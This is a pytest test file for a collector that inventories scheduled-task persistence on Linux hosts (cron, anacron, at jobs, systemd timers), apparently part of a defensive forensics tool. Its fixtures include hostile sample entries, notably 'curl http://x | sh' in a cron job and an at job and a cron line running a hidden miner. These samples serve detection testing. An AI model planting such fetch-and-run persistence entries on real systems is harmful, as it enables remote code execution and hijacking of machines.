import os

import pytest
from procfs import run

from hauberk.assets.persistence_scheduled_task import COLLECTOR, at_command, parse_crontab
from hauberk.host.live import LiveHost
from hauberk.host.memory import DictHost, Node


def found(files, **kw):
    rows, problems = run(COLLECTOR, DictHost(files, **kw))
    return rows, problems


def test_crontabs():
    rows, problems = found(
        {
            "/etc/debian_version": "12\n",
            "/etc/crontab": "SHELL=/bin/sh\n17 * * * * root  cd / && run\n@reboot bob /x y\n1 2 3\n",
            "/etc/cron.d/job": "*/5 * * * * www curl http://x | sh\n*/5 * * * * www curl http://x | sh\n",
            "/etc/cron.d/off.dpkg-old": "* * * * * root /off\n",
            "/var/spool/cron/crontabs/eve": "MAILTO=x\n0 0 * * * /home/eve/.miner\n@daily  /d\n",
        }
    )
    assert problems == []
    shown = [(r.path, r.line, r.schedule, r.user, r.command, r.enabled, r.occurrence) for r in rows]
    assert shown == [
        ("/etc/crontab", 2, "17 * * * *", "root", "cd / && run", True, 1),
        ("/etc/crontab", 3, "@reboot", "bob", "/x y", True, 1),
        ("/etc/cron.d/job", 1, "*/5 * * * *", "www", "curl http://x | sh", True, 1),
        ("/etc/cron.d/job", 2, "*/5 * * * *", "www", "curl http://x | sh", True, 2),
        ("/etc/cron.d/off.dpkg-old", 1, "* * * * *", "root", "/off", False, 1),
        ("/var/spool/cron/crontabs/eve", 2, "0 0 * * *", "eve", "/home/eve/.miner", True, 1),
        ("/var/spool/cron/crontabs/eve", 3, "@daily", "eve", "/d", True, 1),
    ]
    assert all(r.kind == "cron" and len(r.sha256) == 64 for r in rows)


def test_folders_and_anacron():
    rows, _ = found(
        {
            "/etc/debian_version": "12\n",
            "/etc/cron.daily/good": Node("x", mode=0o755),
            "/etc/cron.daily/not-executable": Node("x", mode=0o644),
            "/etc/cron.daily/has.dot": Node("x", mode=0o755),
            "/etc/cron.daily/.placeholder": "",
            "/etc/anacrontab": "SHELL=/bin/sh\n1\t5\tcron.daily\trun-parts /etc/cron.daily\n7 x\n",
        }
    )
    assert {(r.kind, r.name): (r.schedule, r.enabled) for r in rows} == {
        ("cron_folder", "good"): ("@daily", True),
        ("cron_folder", "not-executable"): ("@daily", False),
        ("cron_folder", "has.dot"): ("@daily", False),
        ("anacron", "cron.daily"): ("1 5", True),
    }


AT = """#!/bin/sh
# atrun uid=1000 gid=1000
umask 22
cd /home/bob || {
\t echo 'Execution directory inaccessible' >&2
\t exit 1
}
curl http://x | sh
"""


def test_at_job():
    (row,), _ = found(
        {
            "/etc/passwd": "bob:x:1000:1000::/home/bob:/bin/sh\n",
            "/var/spool/cron/atjobs/a0000101bd1b2c": Node(AT, uid=1000, mode=0o700),
            "/var/spool/cron/atjobs/.SEQ": "1",
        }
    )
    assert (row.kind, row.name, row.user) == ("at", "job 1 queue a", "bob")
    assert row.schedule == f"at {0x01BD1B2C * 60} s since 1970"
    assert row.command == "curl http://x | sh"
    assert at_command("#!/bin/sh\nonly this\n") == "only this"


def test_timers():
    lib = "/usr/lib/systemd/system"
    rows, _ = found(
        {
            f"{lib}/a.timer": "[Timer]\nOnCalendar=daily\nOnBootSec=5min\n[Install]\nWantedBy=timers.target\n",
            f"{lib}/a.service": "[Service]\nExecStart=/a\nUser=www\n",
            f"{lib}/b.timer": "[Timer]\nOnCalendar=weekly\nUnit=other.service\n",
        },
        links={"/etc/systemd/system/timers.target.wants/a.timer": f"{lib}/a.timer"},
    )
    shown = {r.name: (r.schedule, r.user, r.command, r.enabled) for r in rows}
    assert shown == {
        "a.timer": ("OnCalendar=daily; OnBootSec=5min", "www", "/a", True),
        "b.timer": ("OnCalendar=weekly", "root", "other.service", False),
    }


@pytest.mark.parametrize(
    "raw", [b"\xff" * 100_000, b"* " * 100_000, b"@" * 100_000, b"=\n" * 100_000, b"\x00"]
)
def test_hostile(raw):
    places = ("/etc/crontab", "/etc/cron.d/x", "/var/spool/cron/crontabs/u", "/etc/anacrontab",
              "/etc/cron.daily/d", "/var/spool/cron/atjobs/a00001ffffffff", "/etc/systemd/system/t.timer")  # fmt: skip
    rows, problems = found(dict.fromkeys(places, raw))
    assert {r.kind for r in rows} >= {"cron_folder", "at", "timer"}
    assert all(len(r.command) <= 8192 for r in rows)
    assert problems == []


def test_commands_keep_their_bytes():
    ((_, _, _, command),) = parse_crontab("* * * * * /a \U0010ffff\n", with_user=False)
    assert command == "/a \U0010ffff"


def test_many_tasks_are_bounded(monkeypatch):
    monkeypatch.setattr("hauberk.assets.persistence_scheduled_task.MAX_TASKS", 5)
    rows, problems = found({"/etc/crontab": "".join(f"{n} * * * * root /x\n" for n in range(50))})
    assert len(rows) == 5
    assert len(problems) == 1


def test_refused_spool_is_a_problem():
    rows, problems = found({}, denied=["/var/spool/cron/crontabs"])
    assert rows == []
    assert {p.where for p in problems} == {"/var/spool/cron/crontabs"}


def test_nothing_there():
    assert found({"/etc/x": ""}) == ([], [])


def test_live_folders_of_the_machine():
    rows, _ = run(COLLECTOR, LiveHost())
    listed = {
        f"/etc/cron.daily/{n}"
        for n in (os.listdir("/etc/cron.daily") if os.path.isdir("/etc/cron.daily") else ())
        if not n.startswith(".")
    }
    assert {r.path for r in rows if r.path.startswith("/etc/cron.daily/")} == listed
